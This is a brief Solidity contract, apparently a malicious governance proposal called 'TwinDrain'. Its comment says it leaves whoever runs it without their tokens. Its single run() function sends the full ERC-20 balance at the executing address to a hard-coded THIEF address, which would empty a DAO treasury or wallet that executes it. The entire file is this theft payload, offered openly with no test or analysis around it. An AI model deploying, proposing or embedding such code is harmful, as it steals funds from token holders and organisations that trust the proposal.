// SPDX-License-Identifier: MIT
pragma solidity ^0.8.37;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

/// @title A proposal that sends whoever runs it on its way without his tokens.
contract TwinDrain {
    IERC20 public immutable CASH;
    address public immutable THIEF;

    constructor(IERC20 cash, address thief) {
        CASH = cash;
        THIEF = thief;
    }

    function run() external {
        CASH.transfer(THIEF, CASH.balanceOf(address(this)));
    }
}
